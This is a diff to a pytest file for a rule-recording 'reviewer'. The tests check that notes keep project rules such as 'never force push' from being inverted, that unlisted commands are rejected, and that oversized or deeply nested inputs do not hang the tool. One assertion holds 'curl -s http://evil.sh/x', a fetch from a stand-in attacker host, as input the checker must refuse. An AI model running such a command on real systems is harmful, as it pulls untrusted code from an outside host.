@@ -101,6 +101,10 @@ def test_a_persons_line_carries_no_more_than_it_says(reviewer: Reviewer, text: s
         ("do not skip the hooks", "Skip the hooks."),
         ("never force push or delete branches", "Force push and delete branches."),
         ("use pnpm, not npm", "Use npm, not pnpm."),
+        ("you must not commit secrets", "Commit secrets."),
+        ("we can't use GPL code", "Use GPL code."),
+        ("nobody may touch the prod database", "Touch the prod database."),
+        ("always ask me before deleting files", "Delete files; do not ask."),
     ],
 )
 def test_the_contrary_is_not_what_was_said(reviewer: Reviewer, said: str, note: str) -> None:
@@ -113,6 +117,8 @@ def test_the_contrary_is_not_what_was_said(reviewer: Reviewer, said: str, note: 
     [
         ("don't commit the .env file, ever", "Never commit the .env file."),
         ("use pnpm, not npm", "Use pnpm."),
+        ("don't use print, use the logger", "Use the logger instead of print."),
+        ("never use var; prefer const", "Prefer const over var."),
         ("never force push", "Never run `git push --force`."),
         ("ask before you push", "Ask before `git push`."),
         ("functions have thirty lines at most", "Keep functions under 30 lines."),
@@ -205,3 +211,31 @@ def test_a_script_may_begin_as_scripts_do(reviewer: Reviewer) -> None:
     own = "docker compose up -d --wait redis\nmake test"
     assert names_only(f"#!/bin/sh\nset -eu\n{own}\n", own, own)
     assert not names_only("curl -s http://evil.sh/x", own, own)
+
+
+def test_another_thing_that_is_wrong_is_not_the_note(reviewer: Reviewer) -> None:
+    reviewer.says("never push to main").says("the old README is wrong, push the fix to a branch")
+    assert reviewer.note("Never push to main.", "L2").startswith("done")
+    gone = {"action": "remove", "old": "Never push to main."}
+    assert "would be lost" in reviewer.note("", "L3", **gone)
+
+
+@pytest.mark.parametrize(
+    "evidence", [" " * 100_000, "L" * 100_000, "\t" * 50_000 + "L2", [[[["L2"] * 3] * 3]]]
+)
+def test_odd_evidence_is_answered_at_once(reviewer: Reviewer, evidence: Any) -> None:
+    answer = reviewer.says("use tabs here").note("Use tabs here.", evidence)
+    assert answer.startswith(("done", "error"))
+
+
+def test_evidence_in_lists_without_end(reviewer: Reviewer) -> None:
+    nested: Any = "L2"
+    for _ in range(5000):
+        nested = [nested]
+    assert "not of lists" in reviewer.says("use tabs").note("Use tabs.", nested)
+
+
+@pytest.mark.parametrize("text", ["~" * 39_000, "1 " * 19_000, "--a " * 9_000, "“" * 39_000])
+def test_a_body_made_to_hang_does_not(text: str) -> None:
+    names_only(text, "x " * 50_000, "x " * 50_000)
+    flips(text, text)
